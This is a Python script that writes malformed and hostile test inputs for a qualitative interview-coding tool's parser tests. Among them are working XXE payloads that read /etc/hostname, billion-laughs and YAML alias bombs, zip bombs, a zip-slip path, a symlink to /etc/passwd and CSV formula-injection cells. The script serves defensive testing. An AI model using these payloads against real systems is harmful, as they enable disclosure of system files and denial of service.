"""Write the hostile and broken inputs of tests/data/bad/ (see tests/test_bad_input.py).

Run once from anywhere: ``python tests/data/bad/make_bad.py``. The files are committed;
this script documents how each one was made. The 50 MB single-line transcript is not
here: the test writes it into its temporary folder.

Every file is small. The transcripts, cases and codings sheets refer to the documents
and codebook of tests/data/project (interview-a, interview-b, codes such as
``domain.compute``).
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

import docx
from openpyxl import Workbook

HERE = Path(__file__).resolve().parent
DIALOGUE = "Interviewer: How did it start?\nP07: With a few volunteers.\n"


def write(name: str, data: bytes | str) -> None:
    (HERE / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def transcripts() -> None:
    write("empty.txt", b"")
    write("whitespace-only.txt", b"   \n\t\t\r\n \n")
    write("photo-renamed.txt", png())
    write("nul-bytes.txt", b"Interviewer: How did it start?\x00\x00\nP07: With a \x00few.\n")
    # valid UTF-8 (accents) with one stray byte on line 3: not a cp1252 file
    write("invalid-utf8-middle.txt",
          "Interviewer: Où était-ce ?\nP07: À Zürich.\n".encode() + b"P07: caf\xff\n"
          + "Interviewer: Merci, déjà fini.\n".encode())
    write("utf16-no-bom.txt", DIALOGUE.encode("utf-16-le"))
    write("utf16-no-bom-chinese.txt", "采访者：你好。你在哪里工作？\n受访者：我在北京工作。\n".encode("utf-16-le"))
    write("no-speaker-labels.txt",
          "We started with a few volunteers and a chat server.\n\n"
          "Nobody wanted to clean the data, so it took a long time.\n")
    write("malformed-timestamp.vtt",
          "WEBVTT\n\n00:00:01.000 --> 00:00:04.000\nP07: Hello.\n\n"
          "00:00:05.000 --> 00:00:6O.000\nP07: Typo in the time.\n")
    write("overlapping-cues.vtt",
          "WEBVTT\n\n00:00:01.000 --> 00:00:05.000\n<v Interviewer>How did it start?\n\n"
          "00:00:03.000 --> 00:00:08.000\n<v P07>With a few volunteers.\n")
    write("backwards-cue.srt",
          "1\n00:00:01,000 --> 00:00:04,000\nInterviewer: Hello.\n\n"
          "2\n00:00:09,000 --> 00:00:05,000\nP07: Time runs backwards here.\n")
    write("missing-header.vtt", "00:00:01.000 --> 00:00:04.000\nP07: Hello.\n")
    write("unclosed-front-matter.md", "---\ncase: Lab B\n\nInterviewer: Hello.\nP07: Hi.\n")
    write("report.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n")
    write("front-matter-deeply-nested.md",
          "---\nnotes: " + "[" * 3000 + "]" * 3000 + "\n---\nInterviewer: Hello.\n")


def docx_bytes() -> bytes:
    document = docx.Document()
    document.add_paragraph("Interviewer: How did it start?")
    document.add_paragraph("P07: With a few volunteers.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def with_part(data: bytes, name: str, body: bytes) -> bytes:
    """``data`` (a zip) with the entry ``name`` replaced by ``body``."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, body if item.filename == name else source.read(item.filename))
    return out.getvalue()


_BODY = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{doctype}'
         '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
         "<w:body>{paragraphs}</w:body></w:document>")


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx_files() -> None:
    good = docx_bytes()
    write("truncated.docx", good[: len(good) // 2])
    write("html-renamed.docx", b"<!DOCTYPE html><html><body><p>Interviewer: hi</p></body></html>\n")
    # 60 MB of empty paragraphs that deflate to a few dozen kilobytes
    bomb = _BODY.format(doctype="", paragraphs="<w:p/>" * 10_000_000).encode()
    write("zip-bomb.docx", with_part(good, "word/document.xml", bomb))
    external = ('<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/hostname">]>\n')
    xxe = _BODY.format(doctype=external,
                       paragraphs=_paragraph("Interviewer: Read this: &secret;") + _paragraph("P07: No."))
    write("external-entity.docx", with_part(good, "word/document.xml", xxe.encode()))
    laughs = "".join(
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
    )
    doctype = f'<!DOCTYPE w:document [<!ENTITY lol0 "lol">{laughs}]>\n'
    bomb_xml = _BODY.format(doctype=doctype,
                            paragraphs=_paragraph("Interviewer: &lol9;") + _paragraph("P07: Hi."))
    write("billion-laughs.docx", with_part(good, "word/document.xml", bomb_xml.encode()))


def codebooks() -> None:
    head = 'name: Bad\nversion: "1"\ncategories:\n'
    write("codebook-tabs.yaml", head + "  - id: stage\n\tname: Stage\n    codes: []\n")
    write("codebook-duplicate-keys.yaml",
          head + "  - id: domain\n    name: Domain\n    codes:\n"
          "      - id: domain.compute\n        name: Compute\n        name: Computing\n")
    write("codebook-duplicate-ids.yaml",
          head + "  - id: domain\n    name: Domain\n    codes:\n"
          "      - id: domain.compute\n        name: Compute\n"
          "      - id: domain.compute\n        name: Compute again\n")
    write("codebook-parent-cycle.yaml",
          head + "  - id: domain\n    name: Domain\n    codes:\n"
          "      - id: domain.a\n        name: A\n        parent: domain.b\n"
          "      - id: domain.b\n        name: B\n        parent: domain.a\n")
    write("codebook-unknown-stage.yaml",
          head + "  - id: stage\n    name: Stage\n    stages: true\n    codes:\n"
          "      - id: stage.pre\n        name: Pre-training\n"
          "  - id: domain\n    name: Domain\n    codes:\n"
          "      - id: domain.compute\n        name: Compute\n        stage: stage.post\n")
    write("codebook-broken-pattern.yaml",
          head + "  - id: domain\n    name: Domain\n    codes:\n"
          "      - id: domain.compute\n        name: Compute\n"
          "        patterns:\n          - [{LOWER: gpu}, {LOWERR: cluster}]\n")
    laughs = "".join(f"  - &l{n} [*l{n - 1}, *l{n - 1}, *l{n - 1}, *l{n - 1}, *l{n - 1}, "
                     f"*l{n - 1}, *l{n - 1}, *l{n - 1}, *l{n - 1}]\n" for n in range(1, 10))
    write("codebook-alias-bomb.yaml",
          "lols:\n  - &l0 [lol]\n" + laughs + head.replace("categories:\n", "")
          + "categories:\n  - id: domain\n    name: Domain\n    codes:\n"
          "      - id: domain.compute\n        name: Compute\n        patterns:\n          - *l9\n")
    write("codebook-binary.yaml", png())
    write("codebook-deeply-nested.yaml", head + "  - " + "[" * 3000 + "]" * 3000 + "\n")


def xlsx_bytes(*sheets: tuple[str, list[list[object]]]) -> bytes:
    book = Workbook()
    first = book.active
    assert first is not None
    book.remove(first)
    for title, rows in sheets:
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def cases_files() -> None:
    write("cases-missing-column.csv", "interview,organisation\ninterview-a,Collective\n")
    write("cases-duplicate-rows.csv",
          "document,case,region\ninterview-a,Community A,Africa\ninterview-a,Community A,Asia\n")
    write("cases-unknown-document.csv",
          "document,case,region\ninterview-a,Community A,Africa\ninterview-q,Nobody,Europe\n")
    write("cases-several-sheets.xlsx", xlsx_bytes(
        ("Cases", [["document", "case"], ["interview-a", "Community A"]]),
        ("More cases", [["document", "case"], ["interview-b", "Lab B"]]),
    ))
    write("cases-formula-without-value.xlsx", xlsx_bytes(
        ("Cases", [["document", "case", "region"], ["interview-a", "Community A", '=LOWER("AFRICA")']]),
    ))


def codings_files() -> None:
    header = "document,code,quote,coder\n"
    good = "interview-a,domain.compute,We had compute from a public cluster,alice\n"
    write("codings-missing-columns.csv", "document,quote\ninterview-a,We had compute\n")
    write("codings-duplicate-rows.csv", header + good + good)
    write("codings-unknown-document.csv", header + good + "interview-q,domain.compute,anything,alice\n")
    write("codings-unknown-code.csv", header + good + "interview-a,domain.gpus,We had compute,alice\n")
    write("codings-quote-not-found.csv",
          header + good + "interview-a,domain.compute,compute from a private cluster,alice\n")
    write("codings-formula-cells.csv",
          header + good + '"=HYPERLINK(""http://example.org/?x=""&A1,""open"")",domain.compute,'
          "We had compute,alice\n")
    write("codings-ragged-row.csv", header + good
          + "interview-a,domain.compute,We had compute,alice,extra,values\n")
    write("codings-binary.csv", docx_bytes())
    rows: list[list[object]] = [["document", "code", "quote", "coder"],
                                ["interview-a", "domain.compute", "We had compute", "alice"]]
    write("codings-several-sheets.xlsx", xlsx_bytes(
        ("Alice", rows), ("Bob", [rows[0], ["interview-a", "domain.models", "fine-tunes", "bob"]]),
    ))
    write("codings-formula-without-value.xlsx", xlsx_bytes(
        ("Codings", [rows[0], ["interview-a", "domain.compute", '=CONCAT("We had ","compute")',
                               "alice"]]),
    ))


_QDE = ('<?xml version="1.0" encoding="utf-8"?>\n{doctype}<Project xmlns="urn:QDA-XML:project:1.0" '
        'name="{name}" origin="hand"><Sources><TextSource '
        'guid="00000000-0000-0000-0000-000000000001" name="t" plainTextContent="hello"/>'
        "</Sources></Project>")


def qdpx_bytes(entries: dict[str, bytes], *, links: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (0o120777 if name in links else 0o100644) << 16
            archive.writestr(info, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def refi_files() -> None:
    """REFI-QDA projects (for `qualcode import qdpx`) that attack the reader."""
    plain = _QDE.format(doctype="", name="t").encode()
    laughs = "".join(f'<!ENTITY l{n} "{("&l" + str(n - 1) + ";") * 10}">' for n in range(1, 10))
    write("refi-billion-laughs.qdpx", qdpx_bytes({"project.qde": _QDE.format(
        doctype=f'<!DOCTYPE Project [<!ENTITY l0 "lol">{laughs}]>\n', name="&l9;").encode()}))
    write("refi-external-entity.qdpx", qdpx_bytes({"project.qde": _QDE.format(
        doctype='<!DOCTYPE Project [<!ENTITY s SYSTEM "file:///etc/hostname">]>\n',
        name="&s;").encode()}))
    write("refi-zip-slip.qdpx", qdpx_bytes({"project.qde": plain, "../../evil.txt": b"owned"}))
    write("refi-symlink.qdpx", qdpx_bytes({"project.qde": plain, "sources/passwd.txt": b"/etc/passwd"},
                                          links=("sources/passwd.txt",)))
    write("refi-zip-bomb.qdpx", qdpx_bytes({"project.qde": plain,
                                            "sources/bomb.txt": b"0" * (50 * 1024 * 1024)}))


if __name__ == "__main__":
    transcripts()
    docx_files()
    codebooks()
    cases_files()
    codings_files()
    refi_files()
